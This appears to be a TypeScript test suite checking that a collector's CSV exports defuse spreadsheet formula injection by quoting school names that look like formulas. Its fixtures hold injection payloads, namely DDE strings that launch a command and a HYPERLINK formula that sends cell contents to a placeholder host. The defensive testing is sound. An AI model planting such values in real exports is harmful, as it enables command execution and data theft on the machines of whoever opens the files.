/**
 * No export carries a live spreadsheet formula: schools named like formulas go through every CSV the
 * collector serves (coverage, compliance by region and by school, the offline list), and every text
 * cell that a spreadsheet would evaluate comes out with a leading single quote. Numbers stay numbers.
 */
import { expect } from 'chai';
import { readCsv } from '../../collector/registry/csv.js';
import { startConsoleHarness, type ConsoleHarness } from './harness.js';

const HYPERLINK = '=HYPERLINK("http://x"&A1,"点击")';
const CMD = "+cmd|' /C calc'!A0";
/** Seed indexes in 640104: 0, 12, 16 report; 8 and 28 go silent (offline). */
const NAMES: Record<number, string> = { 0: '@SUM(1+1)*cmd|\' /C calc\'!A0', 8: CMD, 12: '-2+3+cmd|\' /C calc\'!A0', 16: '=1+2', 28: HYPERLINK };
const FORMULA = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

function cells(text: string): string[][] {
  const out: string[][] = [];
  readCsv(text.replace(/^\uFEFF/, ''), (f) => {
    if (f.length > 1 || f[0] !== '') out.push(f);
  });
  return out;
}

describe('console and views CSV exports with schools named like formulas (real influxd)', function () {
  this.timeout(120_000);
  let h: ConsoleHarness;
  before(async () => {
    h = await startConsoleHarness({ names: NAMES });
  });
  after(async () => {
    await h?.close();
  });

  const id = (i: number): string => h.schools[i]?.id as string;
  const exports = (): [string, string[]][] => [
    ['/api/v1/coverage?level=county&code=640104&format=csv', Object.values(NAMES)],
    ['/api/v1/compliance?level=county&code=640104&format=csv', Object.values(NAMES)],
    [`/api/v1/schools/${id(28)}/compliance?format=csv`, [HYPERLINK]],
    [`/api/v1/schools/${id(8)}/compliance?format=csv`, [CMD]],
    ['/api/v1/console/offline?region=640104&format=csv', [CMD, HYPERLINK]],
    ['/api/v1/console/offline?region=640000&format=csv&pageSize=1', [CMD, HYPERLINK]],
  ];

  it('every export neutralises each formula-like text cell with a leading quote and leaves no live formula', async () => {
    let neutralised = 0;
    for (const [path, names] of exports()) {
      const res = await fetch(`${h.base}${path}`);
      expect(res.status, path).to.equal(200);
      expect(res.headers.get('content-type'), path).to.match(/^text\/csv/);
      const rows = cells(await res.text());
      const flat = rows.flat();
      for (const c of flat) if (FORMULA.test(c)) expect(c, `${path}: live cell`).to.match(NUMBER);
      for (const n of names) expect(flat, `${path} has ${n}`).to.include(`'${n}`);
      neutralised += flat.filter((c) => c.startsWith("'") && FORMULA.test(c.slice(1))).length;
    }
    expect(neutralised).to.be.greaterThanOrEqual(5 + 5 + 1 + 1 + 2 + 2);
  });

  it('the offline CSV is the whole list, not the page the JSON answer is paged by', async () => {
    const json = (await (await fetch(`${h.base}/api/v1/console/offline?region=640000&pageSize=1`)).json()) as { total: number; items: unknown[] };
    expect(json.items).to.have.length(1);
    expect(json.total).to.be.greaterThan(10);
    const res = await fetch(`${h.base}/api/v1/console/offline?region=640000&pageSize=1&page=3&format=csv`);
    expect(res.headers.get('content-disposition')).to.equal('attachment; filename="offline-640000.csv"');
    expect(cells(await res.text())).to.have.length(json.total + 1);
  });
});
